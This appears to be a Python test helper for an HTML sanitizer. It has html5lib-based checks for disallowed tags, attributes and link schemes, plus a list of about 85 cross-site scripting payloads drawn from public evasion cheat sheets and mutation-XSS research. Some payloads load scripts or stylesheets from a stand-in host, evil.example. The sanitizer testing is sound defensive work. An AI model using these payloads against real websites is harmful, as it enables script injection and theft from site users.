"""What a browser would make of a result, found by a parser that none of the tested code uses."""

from __future__ import annotations

from collections.abc import Collection, Iterator, Mapping
from typing import Any

import html5lib

NO_ATTRIBUTES: frozenset[str] = frozenset()


def elements(html: str) -> Iterator[Any]:
    root = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return (element for element in root.iter() if element is not root)


def text_of(html: str) -> str:
    return "".join(html5lib.parseFragment(html, namespaceHTMLElements=False).itertext())


def forbidden(
    html: str,
    tags: Collection[str],
    attributes: Mapping[str, Collection[str]],
    schemes: tuple[str, ...] = ("http://", "https://", "mailto:"),
) -> list[str]:
    """Return what is in ``html`` and may not be; empty if all is well."""
    found = []
    for element in elements(html):
        if not isinstance(element.tag, str) or element.tag not in tags:
            found.append(f"<{element.tag}>")
            continue
        found += [
            f"{element.tag}[{name}]"
            for name in element.attrib
            if name not in attributes.get(element.tag, NO_ATTRIBUTES)
        ]
        href = element.attrib.get("href")
        if href is not None and not href.lower().startswith(schemes):
            found.append(f"href={href}")
    return found


# After the OWASP XSS Filter Evasion Cheat Sheet, html5sec.org and the published mutation XSS of bleach, ammonia and DOMPurify.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC='https://evil.example/xss.js'></SCRIPT>",
    "<SCRIPT/SRC='https://evil.example/xss.js'></SCRIPT>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "</script><script>alert(1)</script>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
    "<img/src=`x`onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<a href='https://a.b' onclick=alert(1)>x</a>",
    "<a href='https://a.b\" onmouseover=\"alert(1)'>x</a>",
    "<a href='https://a.b' style='background:url(javascript:alert(1))'>x</a>",
    "<a data-linktype='page' data-id='1' href='/admin/'>x</a>",
    "<a linktype='page' id='1'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='http://['>x</a>",
    "<embed embedtype='image' id='1' format='left'/>",
    "<div data-embedtype='media' data-url='https://evil.example'>x</div>",
    "<svg/onload=alert('XSS')>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><script>alert&#40;1&#41;</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><noembed></select><script>x='<!--</noembed><img src=x onerror=alert(1)>'</script>",
    "<BODY ONLOAD=alert('XSS')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<BASE HREF="javascript:alert(1);//">',
    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<DIV STYLE="width: expression(alert(1));">',
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<!x><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<b onclick=alert(1)>x</b>",
    "<p id=x class=y style='position:fixed' dir=rtl>x</p>",
    'http://a.b/"onmouseover=alert(1)//',
    "http://a.b/'><script>alert(1)</script>",
    "http://a.b/&quot;onmouseover=alert(1)",
    "https://javascript:alert(1)@a.b/",
    "javascript://a.b/%0aalert(1)",
    "> <script>alert(1)</script>\n- <img src=x onerror=alert(1)>\n1. <svg onload=alert(1)>",
    "\u0338<b>\u0338</b>",
    "\ud800<script>alert(1)</script>\udfff",
]
